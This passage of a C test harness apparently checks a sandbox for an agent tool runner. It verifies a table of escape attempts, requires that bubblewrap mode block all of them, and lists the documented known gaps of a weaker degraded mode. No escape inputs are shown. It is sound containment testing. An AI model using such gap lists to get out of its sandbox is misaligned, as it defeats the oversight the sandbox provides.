  size_t len;
  char *doc;
  char needle[80];

  ASSERT_GE(N_ATTEMPTS, 60);
  ASSERT_EQ(sizeof(k_registered) / sizeof(k_registered[0]), N_ATTEMPTS);
  doc = al_test_read_file(AL_SOURCE_DIR "/docs/sandbox.md", &len);
  ASSERT_NOT_NULL(doc);
  for (i = 0; i < N_ATTEMPTS; i++) {
    const attempt_t *a = &k_attempts[i];
    int kind = !(a->flags & F_GAP)     ? K_ESCAPE
               : (a->flags & F_NORUN) ? K_GAP_NORUN
                                       : K_GAP;

    if (strcmp(k_registered[i].id, a->id) != 0 ||
        k_registered[i].kind != kind) {
      AL_TEST_FAIL("escape_ids.h entry %zu is %s (kind %d), the table says "
                   "%s (kind %d)",
                   i, k_registered[i].id, k_registered[i].kind, a->id, kind);
    }
    ASSERT((kind == K_GAP) == (a->gap_outcome != NULL));
    ASSERT((kind == K_ESCAPE) == (a->why == NULL));
    for (j = i + 1; j < N_ATTEMPTS; j++) {
      ASSERT(strcmp(a->id, k_attempts[j].id) != 0);
      ASSERT(strcmp(a->input, k_attempts[j].input) != 0 ||
             strcmp(a->tool, k_attempts[j].tool) != 0 ||
             a->flags != k_attempts[j].flags);
    }
    if (kind != K_ESCAPE) {
      snprintf(needle, sizeof(needle), "`%s`", a->id);
      if (strstr(doc, needle) == NULL) {
        AL_TEST_FAIL("degraded gap %s is not in docs/sandbox.md", a->id);
      }
    }
  }
  free(doc);
  printf("%zu escape attempts; bwrap mode must block all of them.\n"
         "Degraded mode (agentloop-exec alone) known gaps, each an "
         "expected-outcome test (degraded_known_gap_<id>):\n",
         N_ATTEMPTS);
  for (i = 0; i < N_ATTEMPTS; i++) {
    if (k_attempts[i].flags & F_GAP) {
      gaps++;
      printf("  %-28s %s%s\n", k_attempts[i].id, k_attempts[i].why,
             (k_attempts[i].flags & F_NORUN) ? " [not run]" : "");
    }
  }
  printf("%zu gaps, %zu blocked in degraded mode\n", gaps, N_ATTEMPTS - gaps);
  return 0;
}

#define ESCAPE(id)                                                    \
  TEST_IMPL(escape_##id) { return run_attempt(#id, SBX_BWRAP); }      \
  TEST_IMPL(escape_degraded_##id) { return run_attempt(#id, SBX_DEGRADED); }
#define GAP(id)                                                       \
  TEST_IMPL(escape_##id) { return run_attempt(#id, SBX_BWRAP); }      \
  TEST_IMPL(degraded_known_gap_##id) {                                \
    return run_attempt(#id, SBX_DEGRADED);                            \
  }
#define GAP_NORUN(id) \
  TEST_IMPL(escape_##id) { return run_attempt(#id, SBX_BWRAP); }
#include "unit/sandbox/escape_ids.h"
#undef ESCAPE
#undef GAP
#undef GAP_NORUN
